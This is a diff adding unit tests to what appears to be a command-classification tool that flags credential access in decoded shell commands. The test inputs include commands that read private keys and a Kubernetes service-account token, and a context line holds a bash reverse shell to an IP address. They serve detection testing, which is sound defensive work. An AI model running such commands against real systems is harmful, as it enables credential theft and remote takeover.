@@ -78,6 +78,23 @@ namespace B64Hunt.Tests.Classification
         }
 
         [Fact]
+        public void ReadingACertificateIsNotCredentialAccessButAPrivateKeyIs()
+        {
+            Assert.DoesNotContain("Credential access", Categories("openssl x509 -in /etc/ssl/certs/web-01.pem -noout -dates"));
+            Assert.Contains("Credential access", Categories("cat /etc/ssl/private/web-01.pem"));
+            Assert.Contains("Credential access", Categories("cp /opt/app/server-key.pem /tmp/.k"));
+        }
+
+        [Fact]
+        public void AWorkloadReadingItsOwnSecretMountIsNotCredentialAccess()
+        {
+            // Docker/compose secrets under /run/secrets are there for the container's own login.
+            Assert.DoesNotContain("Credential access", Categories("docker login registry.local -u ci --password-stdin < /run/secrets/ci"));
+            // Counterpart: the Kubernetes service-account token is what an intruder steals to reach the API server.
+            Assert.Contains("Credential access", Categories("cat /var/run/secrets/kubernetes.io/serviceaccount/token"));
+        }
+
+        [Fact]
         public void EnrichCarriesEachMatchedRuleWithItsRiskAndTactics()
         {
             var e = new CommandEvent { DecodedCommand = "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1" };
